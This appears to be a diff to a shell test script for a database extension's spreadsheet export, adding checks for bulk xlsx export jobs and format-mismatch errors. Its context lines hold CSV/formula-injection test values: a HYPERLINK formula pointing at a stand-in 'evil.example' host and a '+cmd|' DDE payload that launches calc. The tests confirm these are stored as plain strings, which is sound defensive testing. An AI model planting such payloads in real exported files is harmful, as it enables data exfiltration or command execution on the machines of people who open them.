@@ -22,7 +22,15 @@ SELECT customercard.upsert_contact('{"name": "=HYPERLINK(\"http://evil.example/?
 SQL
 q -c "SELECT encode(customercard.export_xlsx('{}'), 'base64')" | base64 -d > $W/audience.xlsx
 q -c "SELECT encode(customercard.export_xlsx('{}', '{custom}'), 'base64')" | base64 -d > $W/custom_only.xlsx
-echo "1..6"
+# an export job in xlsx (batches of 2, so the rows come from several stored chunks)
+JOB=$(q -c "SELECT customercard.bulk_enqueue('export', '{\"format\": \"xlsx\"}', filter => '{}')")
+q -c "SELECT customercard.bulk_run_batch(b.account_id, b.job_id, 2) FROM customercard.bulk_jobs b, generate_series(1, 3) g WHERE b.job_id = $JOB" >/dev/null
+q -c "SELECT encode(customercard.bulk_export_xlsx($JOB), 'base64')" | base64 -d > $W/job.xlsx
+wrong_csv=$(q -c "SELECT customercard.bulk_export_csv($JOB)" 2>&1 | grep -o 'wrote xlsx, not csv' || true)
+CSVJOB=$(q -c "SELECT customercard.bulk_enqueue('export', filter => '{}')")
+wrong_xlsx=$(q -c "SELECT customercard.bulk_export_xlsx($CSVJOB)" 2>&1 | grep -o 'is queued, not done\|wrote csv, not xlsx' || true)
+bad_format=$(q -c "SELECT customercard.bulk_enqueue('export', '{\"format\": \"pdf\"}', filter => '{}')" 2>&1 | grep -o '"format" must be "csv" or "xlsx"' || true)
+echo "1..9"
 /usr/bin/python3 - "$W/audience.xlsx" "$W/custom_only.xlsx" <<'PY'
 import re, sys, zipfile
 z = zipfile.ZipFile(sys.argv[1])
@@ -75,3 +83,15 @@ ok = sorted(c.value for c in evil) == ['+79123456789', '+cmd|\' /C calc\'!A0', '
 print("ok 6 - export_xlsx writes no formula: a value that looks like one is a string cell, as it was" if ok
       else "not ok 6 - %s %s" % ([(c.value, c.data_type) for c in evil], formulas))
 PY
+/usr/bin/python3 - "$W/audience.xlsx" "$W/job.xlsx" <<'PY2'
+import sys, openpyxl
+def values(p):
+    return [[c.value for c in row] for row in openpyxl.load_workbook(p).active.iter_rows()]
+a, j = values(sys.argv[1]), values(sys.argv[2])
+print("ok 7 - the export job's .xlsx (read by openpyxl) holds what export_xlsx writes: the header, every row, typed" if a == j and len(j) == 5
+      else "not ok 7 - export_xlsx %s, the job's %s" % (a, j))
+PY2
+[ "$wrong_csv" = "wrote xlsx, not csv" ] && echo "ok 8 - bulk_export_csv of an xlsx job says to read it with bulk_export_xlsx" || echo "not ok 8 - got: $wrong_csv"
+[ -n "$wrong_xlsx" ] && [ "$bad_format" = '"format" must be "csv" or "xlsx"' ] \
+    && echo "ok 9 - bulk_export_xlsx of another job, and a format other than csv or xlsx, are refused" \
+    || echo "not ok 9 - got: $wrong_xlsx / $bad_format"
